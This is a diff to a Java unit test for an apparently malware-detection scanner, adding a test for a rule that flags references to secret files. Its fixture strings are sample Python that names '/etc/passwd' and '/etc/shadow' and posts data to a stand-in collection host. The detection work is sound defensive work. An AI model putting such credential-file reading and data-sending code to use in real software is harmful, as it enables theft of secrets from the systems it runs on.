@@ -10,6 +10,7 @@ import dev.kingsnake.rules.exec.ComputedImportRule;
 import dev.kingsnake.rules.exec.DecodedCodeExecutionRule;
 import dev.kingsnake.rules.exec.DownloadedCodeExecutionRule;
 import dev.kingsnake.rules.exfil.KeyMaterialSendRule;
+import dev.kingsnake.rules.exfil.SecretFilesRule;
 import dev.kingsnake.rules.network.DownloadRule;
 import dev.kingsnake.rules.obfuscation.ObfuscatorMarkerRule;
 import dev.kingsnake.rules.persistence.DropperRule;
@@ -155,6 +156,20 @@ class HelperFunctionRulesTest {
         List<Reported> cmd = run(new EncodedCommandRule(), src);
         assertEquals(1, cmd.size(), cmd.toString());
         assertEquals(Severity.LOW, cmd.get(0).severity());
+    }
+
+    @Test
+    void severalCredentialStoresWeighFullyOnlyWhereTheFileSendsData() {
+        String src = "import os\n"
+                + "PASSWD = '/etc/passwd'\n"
+                + "SHADOW = '/etc/shadow'\n";
+        List<Reported> admin = run(new SecretFilesRule(), src);
+        assertEquals(2, admin.size(), admin.toString());
+        assertTrue(admin.stream().allMatch(x -> x.severity() == Severity.MEDIUM), admin.toString());
+        List<Reported> sent = run(new SecretFilesRule(), src + "import requests\n"
+                + "def report(data):\n"
+                + "    requests.post('https://collect.example.invalid/', data=data)\n");
+        assertTrue(sent.stream().allMatch(x -> x.severity() == Severity.HIGH), sent.toString());
     }
 
     @Test
